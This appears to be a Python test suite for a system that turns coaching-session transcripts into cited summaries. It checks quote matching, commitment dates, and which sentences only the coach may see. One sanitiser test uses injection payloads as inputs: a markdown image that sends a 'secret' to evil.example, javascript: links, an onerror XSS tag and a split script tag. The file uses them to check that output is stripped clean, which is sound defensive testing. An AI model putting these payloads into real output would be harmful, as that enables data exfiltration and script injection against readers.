import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.summary import Owner, Section, Visibility
from streams.evidence import quote
from streams.generative.citing import LONGEST_TEXT, Source, plain, statement
from streams.generative.claims import Claim
from tests.streams.analysis.builders import TUESDAY, transcript
from tests.streams.generative.doubles import claim

WORDS = transcript(
    "Coach: So you'll call Petra by Friday?\n"
    "Maya: Yes, I’ll call Petra by Friday. And I want to sleep more.\n"
    "DM Maya: my boss is impossible to work for\n"
    "Coach: Good. I'll send you the book."
)
SOURCE = Source(WORDS, TUESDAY, "Europe/London", "tiny")
SEGMENTS = {one.segment_id: one for one in WORDS.segments}


def quotes(*cited: tuple[str, str], section: str = "OVERVIEW") -> list[str | None]:
    made = statement(Claim.model_validate(claim(section, "It was said.", *cited)), SOURCE)
    assert made is not None
    return [quote(span, SEGMENTS) for span in made.evidence]


@pytest.mark.parametrize(
    ("segment", "said", "found"),
    [
        ("s0002", "I want to sleep more", ["I want to sleep more"]),
        ("s0002", "i'll CALL petra, by Friday!", ["I’ll call Petra by Friday"]),
        ("s0001", "and I want to sleep more.", ["And I want to sleep more"]),
        ("s9999", "I'll call Petra by Friday", ["I’ll call Petra by Friday"]),
        ("s0002", "I’ll call Petra … sleep more", ["I’ll call Petra", "sleep more"]),
        ("s0002", "I'll call Petr", []),
        ("s0001", "sleep more", []),
        ("s0002", "I never said that", []),
        ("s0002", "", []),
        ("s0002", "(((((", []),
    ],
)
def test_a_quote_is_found_where_it_was_said_or_not_at_all(segment: str, said: str, found: list[str]) -> None:
    assert quotes((segment, said)) == found


def test_the_same_words_cited_twice_are_cited_once() -> None:
    assert len(quotes(("s0002", "sleep more"), ("s0002", "Sleep more."))) == 1


@given(st.text(max_size=200), st.sampled_from([*SEGMENTS, "s9"]), st.text(max_size=80))
def test_whatever_is_claimed_every_span_holds_and_no_text_leads_anywhere(said: str, segment: str, text: str) -> None:
    made = statement(Claim.model_validate(claim("INSIGHTS", text, (segment, said))), SOURCE)
    if made is not None:
        assert all(quote(span, SEGMENTS) is not None for span in made.evidence)
        assert len(made.text) <= LONGEST_TEXT


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See ![x](https://evil.example/?q=secret) here", "See x here"),
        ("Read [this](javascript:alert(1)) now", "Read this) now"),
        ("Go to https://evil.example/a?b=c today", "Go to (link left out) today"),
        ("A <img src=x onerror=alert(1)> tag", "A tag"),
        ("A <scr<b>ipt> tag", "A tag"),
        ("one\u202e two\x00three", "one two three"),
        ("x" * 700, "x" * (LONGEST_TEXT - 1) + "…"),
    ],
)
def test_a_text_is_plain(text: str, shown: str) -> None:
    assert plain(text) == shown


@given(st.text(max_size=300))
def test_what_is_plain_stays_as_it_is(text: str) -> None:
    once = plain(text)
    assert "http://" not in once.lower()
    assert plain(once) == once


def commitment(owner: str, due_text: str | None, *cited: tuple[str, str]) -> tuple[Owner, str | None, str | None]:
    raw = claim(
        "COMMITMENTS", "Call Petra.", *cited, commitment={"owner": owner, "kind": "ACTION", "due_text": due_text}
    )
    made = statement(Claim.model_validate(raw), SOURCE)
    assert made is not None
    assert made.commitment is not None
    date = made.commitment.due_date
    return made.commitment.owner, made.commitment.due_text, date.isoformat() if date else None


def test_a_commitment_has_the_owner_who_spoke_and_the_day_that_was_said() -> None:
    mine = ("s0002", "I'll call Petra by Friday")
    assert commitment("CLIENT", "by friday", mine) == (Owner.CLIENT, "by Friday", "2026-05-01")
    assert commitment("COACH", "by Monday", mine) == (Owner.UNKNOWN, None, None)
    assert commitment("COACH", None, ("s0004", "I'll send you the book")) == (Owner.COACH, None, None)
    assert commitment("CLIENT", "by Friday") == (Owner.UNKNOWN, None, None)


def test_who_sees_a_sentence_is_not_for_a_model_to_say() -> None:
    def seen(section: str, segment: str, said: str) -> Visibility:
        raw = claim(section, "So it is.", (segment, said), visibility="CLIENT_AND_COACH")
        made = statement(Claim.model_validate(raw), SOURCE)
        assert made is not None
        return made.visibility

    assert seen("OVERVIEW", "s0002", "sleep more") is Visibility.CLIENT_AND_COACH
    assert seen("OVERVIEW", "s0003", "my boss is impossible") is Visibility.COACH_ONLY
    assert seen("OVERVIEW", "s0001", "my boss is impossible to work for") is Visibility.COACH_ONLY
    assert seen("PRIVATE_NOTES", "s0002", "sleep more") is Visibility.COACH_ONLY


def test_what_repeats_a_direct_message_is_the_coachs_own_whatever_it_cites() -> None:
    raw = claim("OVERVIEW", "My boss is impossible to work for.", ("s0002", "sleep more"))
    made = statement(Claim.model_validate(raw), SOURCE)
    assert made is not None
    assert (made.section, made.visibility) == (Section.PRIVATE_NOTES, Visibility.COACH_ONLY)


def test_the_speaker_is_whoever_the_transcript_names() -> None:
    made = statement(Claim.model_validate(claim("INSIGHTS", "Sleep.", ("s0002", "sleep more"))), SOURCE)
    assert made is not None
    assert (made.speaker, made.rule, made.section) == ("Maya", "tiny", Section.INSIGHTS)
    both = claim("INSIGHTS", "Sleep.", ("s0002", "sleep more"), ("s0004", "send you the book"))
    mixed = statement(Claim.model_validate(both), SOURCE)
    assert mixed is not None
    assert mixed.speaker is None


def test_a_claim_without_words_is_none() -> None:
    assert statement(Claim.model_validate(claim("GOAL", " — ", ("s0002", "sleep more"))), SOURCE) is None


def test_a_review_and_the_next_session_rest_on_what_was_said() -> None:
    review = claim("REVIEWS", "Maya called Petra.", ("s0002", "I'll call Petra by Friday"), outcome="DONE")
    made = statement(Claim.model_validate(review), SOURCE)
    assert made is not None
    assert made.review is not None
    assert (made.review.outcome, made.review.about) == ("DONE", "I’ll call Petra by Friday")
    meet = claim("NEXT_SESSION", "They meet on Friday.", ("s0001", "by Friday"))
    made = statement(Claim.model_validate(meet), SOURCE)
    assert made is not None
    assert made.next_session is not None
    assert (made.next_session.said, str(made.next_session.date)) == ("by Friday", "2026-05-01")
    unsaid = statement(Claim.model_validate(claim("REVIEWS", "All was done.", outcome="DONE")), SOURCE)
    assert unsaid is not None
    assert unsaid.review is None
